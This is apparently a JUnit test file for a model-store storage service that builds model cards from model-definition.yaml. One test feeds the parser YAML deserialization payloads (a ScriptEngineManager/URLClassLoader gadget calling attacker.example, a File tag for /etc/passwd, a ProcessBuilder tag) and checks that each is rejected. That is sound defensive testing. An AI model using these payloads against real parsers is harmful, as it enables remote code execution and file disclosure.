package io.berth.core.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.berth.core.error.NotFoundException;
import io.berth.core.identity.Caller;
import io.berth.core.identity.Role;
import io.berth.core.storage.FolderInput;
import io.berth.core.storage.FolderView;
import io.berth.core.storage.ModelCard;
import io.berth.core.storage.StorageService;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** SPEC S6: model folders of the model-store project are cards read safely from model-definition.yaml. */
class StorageModelCardTest extends StorageFixture {
    static final String GUIDE = """
            models:
              - name: Meta-Llama-3-8B-Instruct
                model_path: /models
                metadata:
                  title: Llama 3 8B Instruct
                  description: An instruction-tuned model
                  author: Meta
                  task: text-generation
                  license: llama3
                  label:
                    - llm
                    - chat
                  min_resource:
                    cuda.shares: 2.43
            """;

    Caller dave;

    @BeforeEach
    void member() {
        dave = World.caller(w.create("dave@alpha.test", "alpha", Role.USER, "model-store"));
    }

    FolderView model(String name, String usageMode) {
        return svc.createFolder(adminA, new FolderInput(name, "project", "model-store", "vv", usageMode, "ro",
                true));
    }

    ModelCard cardWith(String yaml) {
        FolderView v = model("llama", "model");
        put(adminA, v.folder().id(), StorageService.MODEL_DEFINITION, yaml);
        return svc.getModelCard(dave, v.folder().id());
    }

    @Test
    void theGuidesDefinitionMakesAReadyCard() {
        FolderView v = model("llama", "model");
        assertTrue(v.modelStore());
        put(adminA, v.folder().id(), StorageService.MODEL_DEFINITION, GUIDE);
        List<ModelCard> cards = svc.listModelCards(dave);
        assertEquals(1, cards.size());
        ModelCard card = cards.get(0);
        assertEquals("ready", card.status(), card.error());
        assertNull(card.error());
        assertEquals("Llama 3 8B Instruct", card.title());
        assertEquals("An instruction-tuned model", card.description());
        assertEquals(v.folder().id(), card.folderId());
        assertEquals(w.modelStore("alpha").id(), card.projectId());
        assertTrue(card.cloneable());
        assertEquals(1, card.models().size());
        ModelCard.Model m = card.models().get(0);
        assertEquals("Meta-Llama-3-8B-Instruct", m.name());
        assertEquals("/models", m.modelPath());
        assertEquals("Meta", m.metadata().get("author"));
        assertEquals("text-generation", m.metadata().get("task"));
        assertEquals("llama3", m.metadata().get("license"));
        assertEquals(List.of("llm", "chat"), m.metadata().get("label"));
        assertEquals(Map.of("cuda.shares", 2.43), m.metadata().get("min_resource"));
        assertEquals(card, svc.getModelCard(dave, "llama"));
        assertEquals(List.of(card), svc.listModelCards(alice));
    }

    @Test
    void aBrokenDefinitionIsAnErrorCardWithTheParsersMessage() {
        ModelCard card = cardWith("models:\n  - name: [unclosed\n    model_path: /models\n");
        assertEquals("error", card.status());
        assertTrue(card.error().contains("not valid YAML"), card.error());
        assertTrue(card.error().length() > "model-definition.yaml is not valid YAML: ".length(), card.error());
        assertEquals(List.of(), card.models());
        assertEquals("llama", card.title());
    }

    @Test
    void aFolderWithoutADefinitionIsMissing() {
        FolderView v = model("llama", "model");
        ModelCard card = svc.getModelCard(dave, v.folder().id());
        assertEquals("missing", card.status());
        assertEquals(List.of(), card.models());
    }

    @Test
    void javaTagsAreNeverConstructed() {
        for (String yaml : List.of(
                "models: !!java.util.ArrayList [1]\n",
                "models:\n  - name: x\n    model_path: /m\n    metadata: !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n",
                "!!java.io.File \"/etc/passwd\"\n",
                "models:\n  - !<tag:yaml.org,2002:java.lang.ProcessBuilder> [[\"touch\", \"x\"]]\n")) {
            FolderView v = model("m" + Math.abs(yaml.hashCode()), "model");
            put(adminA, v.folder().id(), StorageService.MODEL_DEFINITION, yaml);
            ModelCard card = svc.getModelCard(dave, v.folder().id());
            assertEquals("error", card.status(), yaml);
            assertEquals(List.of(), card.models());
        }
    }

    @Test
    void aGeneralFolderIsNoCardAndOutsidersSeeNoCard() {
        FolderView general = model("plain", "general");
        put(adminA, general.folder().id(), StorageService.MODEL_DEFINITION, GUIDE);
        assertThrows(NotFoundException.class, () -> svc.getModelCard(dave, general.folder().id()));
        FolderView card = model("llama", "model");
        put(adminA, card.folder().id(), StorageService.MODEL_DEFINITION, GUIDE);
        assertEquals(List.of(card.folder().id()), svc.listModelCards(dave).stream().map(ModelCard::folderId)
                .toList());
        // a model folder outside a model-store project is no card either
        FolderView research = svc.createFolder(adminA, new FolderInput("rmodel", "project", "research", "vv",
                "model", null, null));
        assertThrows(NotFoundException.class, () -> svc.getModelCard(adminA, research.folder().id()));
        // bob is not a member of alpha's model store
        assertEquals(List.of(), svc.listModelCards(bob));
        assertThrows(NotFoundException.class, () -> svc.getModelCard(bob, card.folder().id()));
        assertEquals(List.of(), svc.listModelCards(adminB));
        assertEquals(1, svc.listModelCards(root).size());
    }
}
